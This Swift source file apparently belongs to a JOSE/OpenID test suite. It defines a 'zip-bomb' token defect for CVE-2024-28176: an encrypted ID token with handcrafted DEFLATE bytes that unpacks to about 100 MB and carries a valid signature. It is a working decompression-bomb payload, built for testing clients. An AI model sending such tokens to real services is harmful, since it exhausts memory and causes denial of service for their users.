import JOSE
import Text

/// Content that is small until it is unpacked (RFC 7516 §4.1.3, CVE-2024-28176).
extension TokenDefect {
    /// The unpacked content is signed: a client that reads it to the end finds nothing wrong.
    static let zipBomb = TokenDefect(
        "zip-bomb", in: [.idToken],
        "is encrypted, and is 100 MB long once its content is unpacked; one that is not encrypted stays as it is",
        .sealed { header, content, draft in
            guard let bomb = bomb(around: content, draft) else { return }
            header["zip"] = "DEF"
            content = bomb
        })

    /// The claims of a token with another one, `padding`, whose base64url is the letter V alone:
    /// before and after it as they are, and the padding deflated (RFC 1951 §3.2).
    private static func bomb(around token: [UInt8], _ draft: TokenDraft) -> [UInt8]? {
        let parts = token.split(separator: .ascii("."))
        guard parts.count == 3,
            let claims = Base64URL.decode(String(decoding: parts[1], as: UTF8.self))
        else { return nil }
        var first = claims.dropLast() + Array(#","padding":""#.utf8)
        // Blanks fill the groups of three bytes of base64.
        while !first.count.isMultiple(of: 3) { first.insert(.space, at: claims.count - 1) }
        // The run of the deflated block is one letter longer than whole groups of four.
        let start = Array(parts[0]) + Array(".\(Base64URL.encode(Array(first)))VVV".utf8)
        let rest = Array(Base64URL.encode(Array(#""}"#.utf8)).utf8)
        let padding = [UInt8](repeating: .ascii("V"), count: 1 + runOfByte * (blanks + 1))
        let input = start + padding + rest
        guard start.count <= UInt16.max,
            let signature = try? draft.key.signature(of: input, algorithm: draft.algorithm)
        else { return nil }
        let end = rest + Array(".\(Base64URL.encode(signature))".utf8)
        var bytes: [UInt8] = [0] + length(of: start) + start + head
        bytes += [UInt8](repeating: 0, count: blanks)
        return bytes + tail + length(of: end) + end
    }

    /// The length of a stored block, and its complement.
    private static func length(of block: [UInt8]) -> [UInt8] {
        let (low, high) = (UInt8(truncatingIfNeeded: block.count), UInt8(block.count >> 8))
        return [low, high, ~low, ~high]
    }

    private static let blanks = 96_500
    /// A bit of 0 is a length of 258, and the next one a distance of 1.
    private static let runOfByte = 4 * 258
    /// A block with codes of its own: a V, and where each bit after it is 0, that run for each byte.
    private static let head: [UInt8] = [
        0xec, 0xc1, 0x81, 0x00, 0x00, 0x00, 0x00, 0xc3, 0x20, 0xcb, 0xf9, 0xa3, 0x1c, 0xe4, 0x55,
        0x01,
    ]
    /// The end of that block, and the head of a last one that is stored.
    private static let tail: [UInt8] = [0xf7, 0x16]
}
